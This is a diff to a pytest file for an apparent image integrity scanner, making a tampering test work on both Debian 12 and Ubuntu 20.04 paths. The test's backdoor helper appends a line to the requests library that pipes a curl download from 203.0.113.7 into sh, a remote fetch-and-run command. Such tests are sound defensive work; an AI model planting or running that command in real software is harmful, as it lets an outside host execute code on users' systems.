@@ -42,8 +42,10 @@ def _torchscript() -> bytes:
     torch.manual_seed(0)
     net = torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.ReLU()).eval()
     buf = io.BytesIO()
-    torch.jit.trace(net, torch.rand(1, 3, 32, 32)).save(buf)
-    return buf.getvalue()
+    torch.jit.save(torch.jit.trace(net, torch.rand(1, 3, 32, 32)), buf)
+    data = buf.getvalue()
+    assert data.startswith(b"PK"), "a TorchScript file is a zip"
+    return data
 
 
 def _project(root: Path, asset: Path) -> BuiltProject:
@@ -126,11 +128,11 @@ def test_clean_app_on_a_stock_base_is_approved(base: str, tmp_path: Path) -> Non
 @pytest.mark.parametrize("base", ["debian12", "ubuntu20.04"])
 def test_tampered_os_binary_and_dependency_are_rejected(base: str, tmp_path: Path) -> None:
     clean = _asset_or_skip(base)
-    site = (
-        "usr/local/lib/python3.11/dist-packages"
-        if base == "debian12"
-        else ("usr/local/lib/python3.8/dist-packages")
-    )
+    # Debian 12 has merged /usr (bin -> usr/bin); Ubuntu 20.04 keeps /bin
+    ls, site = {
+        "debian12": ("usr/bin/ls", "usr/local/lib/python3.11/dist-packages"),
+        "ubuntu20.04": ("bin/ls", "usr/local/lib/python3.8/dist-packages"),
+    }[base]
 
     def flip(data: bytes) -> bytes:
         return data[:100] + bytes([data[100] ^ 0xFF]) + data[101:]
@@ -139,9 +141,7 @@ def test_tampered_os_binary_and_dependency_are_rejected(base: str, tmp_path: Pat
         return data + b"\nimport os\nos.system('curl -s http://203.0.113.7/x | sh')\n"
 
     tampered = tmp_path / "tampered.tar.gz"
-    changed = tamper(
-        clean, tampered, {"usr/bin/ls": flip, f"{site}/requests/sessions.py": backdoor}
-    )
+    changed = tamper(clean, tampered, {ls: flip, f"{site}/requests/sessions.py": backdoor})
     assert len(changed) == 2
     project = _project(tmp_path / "app", tampered)
     code, report = _scan(project.root, tmp_path / "report.json")
@@ -151,12 +151,12 @@ def test_tampered_os_binary_and_dependency_are_rejected(base: str, tmp_path: Pat
         for f in report["findings"]
         if f["rule_id"] == "integrity.package-file-modified"
     }
-    assert set(modified) == {"usr/bin/ls", f"{site}/requests/sessions.py"}
-    ls = modified["usr/bin/ls"]
-    assert ls["severity"] == "high"
-    assert ls["properties"]["package"] == "coreutils"
-    assert "coreutils" in ls["message"]
-    assert ls["properties"]["expected"] != ls["properties"]["actual"]
+    assert set(modified) == {ls, f"{site}/requests/sessions.py"}
+    binary = modified[ls]
+    assert binary["severity"] == "high"
+    assert binary["properties"]["package"] == "coreutils"
+    assert "coreutils" in binary["message"]
+    assert binary["properties"]["expected"] != binary["properties"]["actual"]
     assert modified[f"{site}/requests/sessions.py"]["properties"]["package"] == "requests"
     assert _container(report)["files"]["modified"] == 2
     assert report["verdict"]["decision"] == "rejected"
